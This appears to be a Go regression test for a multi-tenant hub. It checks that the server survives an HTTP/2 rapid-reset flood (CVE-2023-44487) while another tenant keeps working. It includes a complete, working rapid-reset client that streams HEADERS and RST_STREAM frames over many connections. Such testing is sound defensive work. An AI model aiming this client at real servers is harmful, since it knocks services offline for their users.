package hub

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Issue 24, fifth outside review, HTTP/2 rapid reset (CVE-2023-44487):
// connections sending HEADERS and at once RST_STREAM, stream after
// stream, never waiting for an answer. With her token (#20), an invalid
// one on /version (#21) or none on /healthz (#22), 8 connections at
// ~92,000 streams a second cut another tenant from ~500 to ~1 request a
// second and the hub lost the edges provider's replicas: single lease; one
// connection (#23, weak) cut him to 219 a second. Each row runs such a
// client from the hub's own address, as the review did, while alice (a
// tenant of her own) does a fixed count of ConfigMap operations on one
// kept-alive HTTP/2 connection and a replicas: single provider holds its
// lease. It asserts outcomes, never times: every one of alice's
// operations succeeds, the lease is never lost
// (wharf_provider_lease_losses_total), the attacker's connections are
// closed by the hub (wharf_connections_closed_for_resets_total, on
// 879c398 no such series: nothing closed them but Go's own queue bound)
// and the hub stays ready.
func TestAttackLimitsReview5Reset(t *testing.T) {
	t.Parallel()
	single := singleProvider(t)
	e := startReviewFairHub(t, "--provider", "single="+single)
	h := e.h
	eventually(t, 90*time.Second, func() error {
		if up, err := providerMetric(t, h, "wharf_provider_up", "single"); err != nil || up != 1 {
			return fmt.Errorf("single up %d: %v", up, err)
		}
		return nil
	})
	pool := x509.NewCertPool()
	pem, err := os.ReadFile(filepath.Join(h.opts.dataDir, "pki", "serving.crt"))
	if err != nil {
		t.Fatal(err)
	}
	pool.AppendCertsFromPEM(pem)
	malloryList := cmPath("/clusters/" + e.vars["malloryHome"])

	for _, row := range []struct {
		id, name    string
		path, token string
		conns       int
	}{
		{"r5:20", "her token, 8 connections", malloryList, e.tokens["mallory"], 8},
		{"r5:21", "an invalid token on /version, 8 connections", "/version", "review5-invalid-token-0123456789", 8},
		{"r5:22", "no credential on /healthz, 8 connections", "/healthz", "", 8},
		{"r5:23", "her token on /version, 1 connection", "/version", e.tokens["mallory"], 1},
	} {
		t.Run(row.id+"/rapid reset with "+row.name, func(t *testing.T) {
			lost0 := mustProviderMetric(t, h, "wharf_provider_lease_losses_total", "single")
			closed0 := resetClosures(t, e)

			ctx, stop := context.WithCancel(context.Background())
			att := startRapidReset(ctx, strings.TrimPrefix(h.URL, "https://"), pool, row.path, row.token, row.conns)
			// The victim starts once the attack runs (not a timing
			// assertion: only when alice starts).
			for att.streams.Load() < 1000 && att.dials.Load() < 1000 {
				time.Sleep(10 * time.Millisecond)
			}
			failed := r5Victim(h, pool, e.tokens["alice"], "/clusters/"+e.vars["aliceHome"], row.id, r5VictimOps)
			// Long enough past the leases' renewal deadline (3.25 s) that
			// a starved hub misses renewals; a load, not an assertion.
			for att.elapsed() < r5MinAttack {
				time.Sleep(100 * time.Millisecond)
			}
			stop()
			att.wait()
			t.Logf("%s: %s; alice: %d of %d operations failed", row.id, att, len(failed), r5VictimOps)

			hubHealthy(t, h)
			if len(failed) > 0 {
				t.Errorf("alice: %d of %d operations failed under the attack: %s", len(failed), r5VictimOps, strings.Join(failed[:min(len(failed), 5)], "; "))
			}
			if lost := mustProviderMetric(t, h, "wharf_provider_lease_losses_total", "single") - lost0; lost != 0 {
				t.Errorf("the replicas: single provider lost its lease %d times under the attack", lost)
			}
			eventually(t, 60*time.Second, func() error {
				if up, err := providerMetric(t, h, "wharf_provider_up", "single"); err != nil || up != 1 {
					return fmt.Errorf("single up %d: %v", up, err)
				}
				return nil
			})
			if closed := resetClosures(t, e) - closed0; closed <= 0 {
				t.Errorf("the hub closed none of the attacker's connections for their resets (wharf_connections_closed_for_resets_total +%v)", closed)
			}
			if att.closedByHub.Load() == 0 {
				t.Errorf("no attacker connection was closed by the hub: %s", att)
			}
		})
	}
}

const (
	// r5VictimOps is alice's fixed count of operations per row.
	r5VictimOps = 120
	// r5MinAttack is how long each row's attack runs at least.
	r5MinAttack = 10 * time.Second
)

// mustProviderMetric is providerMetric, failing the test without it.
func mustProviderMetric(t *testing.T, h *hubProc, name, provider string) int {
	t.Helper()
	v, err := providerMetric(t, h, name, provider)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// resetClosures reads wharf_connections_closed_for_resets_total; a hub
// without the series (879c398) closed none: 0.
func resetClosures(t *testing.T, e *attackEnv) float64 {
	t.Helper()
	code, body := e.as("hubadmin", http.MethodGet, "/metrics", "", nil)
	if code != http.StatusOK {
		t.Fatalf("/metrics: %d %.300s", code, body)
	}
	m := regexp.MustCompile(`(?m)^wharf_connections_closed_for_resets_total (\S+)$`).FindStringSubmatch(body)
	if m == nil {
		return 0
	}
	v, err := strconv.ParseFloat(m[1], 64)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// r5Victim runs n of alice's create, get, list (limit 50) and delete of
// small ConfigMaps in her home ws, one after another on one kept-alive
// HTTP/2 connection (as client-go would), and returns her failures.
func r5Victim(h *hubProc, pool *x509.CertPool, token, ws, tag string, n int) []string {
	tr := &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool}, ForceAttemptHTTP2: true}
	defer tr.CloseIdleConnections()
	cl := &http.Client{Transport: tr, Timeout: 30 * time.Second}
	var failed []string
	for i := 0; i < n; i++ {
		name := fmt.Sprintf("victim-%s-%d", strings.ReplaceAll(tag, ":", "-"), i/4)
		s := []struct {
			method, path, body string
			want               int
		}{
			{http.MethodPost, cmPath(ws), cmJSON(name), http.StatusCreated},
			{http.MethodGet, cmPath(ws) + "/" + name, "", http.StatusOK},
			{http.MethodGet, cmPath(ws) + "?limit=50", "", http.StatusOK},
			{http.MethodDelete, cmPath(ws) + "/" + name, "", http.StatusOK},
		}[i%4]
		method, body, want := s.method, s.body, s.want
		req, err := http.NewRequest(method, h.URL+s.path, strings.NewReader(body))
		if err != nil {
			panic(err)
		}
		req.Header.Set("Authorization", "Bearer "+token)
		if body != "" {
			req.Header.Set("Content-Type", "application/json")
		}
		resp, err := cl.Do(req)
		if err != nil {
			failed = append(failed, fmt.Sprintf("%s %s: %v", method, s.path, err))
			continue
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != want {
			failed = append(failed, fmt.Sprintf("%s %s: %d %.200s", method, s.path, resp.StatusCode, b))
		}
	}
	return failed
}

// rapidReset is a running rapid-reset client and what it saw.
type rapidReset struct {
	start                       time.Time
	streams, dials, dialErrs    atomic.Int64
	goaways, closedByHub, nonH2 atomic.Int64
	wg                          sync.WaitGroup
}

func (a *rapidReset) elapsed() time.Duration { return time.Since(a.start) }

func (a *rapidReset) wait() { a.wg.Wait() }

func (a *rapidReset) String() string {
	return fmt.Sprintf("%d streams reset in %s, %d dials (%d failed, %d without h2), %d GOAWAYs, %d connections closed by the hub",
		a.streams.Load(), a.elapsed().Round(time.Second), a.dials.Load(), a.dialErrs.Load(), a.nonH2.Load(), a.goaways.Load(), a.closedByHub.Load())
}

// startRapidReset opens conns connections to addr and on each sends
// HEADERS for GET path (with token, if any) and at once RST_STREAM
// (CANCEL), stream after stream, until ctx is done; a connection the hub
// closes or sends a GOAWAY on is dialled again.
func startRapidReset(ctx context.Context, addr string, pool *x509.CertPool, path, token string, conns int) *rapidReset {
	a := &rapidReset{start: time.Now()}
	for range conns {
		a.wg.Add(1)
		go func() {
			defer a.wg.Done()
			d := &tls.Dialer{NetDialer: &net.Dialer{Timeout: 10 * time.Second}, Config: &tls.Config{RootCAs: pool, NextProtos: []string{"h2"}}}
			for ctx.Err() == nil {
				c, err := d.DialContext(ctx, "tcp", addr)
				a.dials.Add(1)
				if err != nil {
					a.dialErrs.Add(1)
					select {
					case <-ctx.Done():
					case <-time.After(100 * time.Millisecond):
					}
					continue
				}
				tc := c.(*tls.Conn)
				if tc.ConnectionState().NegotiatedProtocol != "h2" {
					a.nonH2.Add(1)
					_ = c.Close()
					continue
				}
				a.resetOn(ctx, tc, addr, path, token)
			}
		}()
	}
	return a
}

// resetOn runs the attack on one connection until the hub ends it or ctx
// is done.
func (a *rapidReset) resetOn(ctx context.Context, c *tls.Conn, addr, path, token string) {
	defer c.Close()
	bw := bufio.NewWriterSize(c, 64<<10)
	var mu sync.Mutex // the framer's writes: the reader acks SETTINGS
	fr := http2.NewFramer(bw, c)
	mu.Lock()
	_, _ = bw.WriteString(http2.ClientPreface)
	_ = fr.WriteSettings()
	err := bw.Flush()
	mu.Unlock()
	if err != nil {
		a.closedByHub.Add(1)
		return
	}
	ended := make(chan struct{})
	var sawGoAway, counted atomic.Bool
	// hubClosed counts the connection once as closed by the hub, unless
	// the client ended it or the hub sent a GOAWAY first.
	hubClosed := func() {
		if ctx.Err() == nil && !sawGoAway.Load() && counted.CompareAndSwap(false, true) {
			a.closedByHub.Add(1)
		}
	}
	go func() {
		defer close(ended)
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				if !errors.Is(err, net.ErrClosed) {
					hubClosed()
				}
				return
			}
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() {
					mu.Lock()
					_ = fr.WriteSettingsAck()
					_ = bw.Flush()
					mu.Unlock()
				}
			case *http2.GoAwayFrame:
				sawGoAway.Store(true)
				a.goaways.Add(1)
				return
			}
		}
	}()
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for sid := uint32(1); sid < 1<<30; sid += 2 {
		select {
		case <-ended:
			return
		case <-ctx.Done():
			return
		default:
		}
		hb.Reset()
		_ = enc.WriteField(hpack.HeaderField{Name: ":method", Value: "GET"})
		_ = enc.WriteField(hpack.HeaderField{Name: ":scheme", Value: "https"})
		_ = enc.WriteField(hpack.HeaderField{Name: ":authority", Value: addr})
		_ = enc.WriteField(hpack.HeaderField{Name: ":path", Value: path})
		if token != "" {
			_ = enc.WriteField(hpack.HeaderField{Name: "authorization", Value: "Bearer " + token})
		}
		mu.Lock()
		err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: sid, BlockFragment: hb.Bytes(), EndStream: true, EndHeaders: true})
		if err == nil {
			err = fr.WriteRSTStream(sid, http2.ErrCodeCancel)
		}
		if err == nil && sid%16 == 15 {
			err = bw.Flush()
		}
		mu.Unlock()
		if err != nil {
			hubClosed()
			_ = c.Close()
			<-ended
			return
		}
		a.streams.Add(1)
	}
}
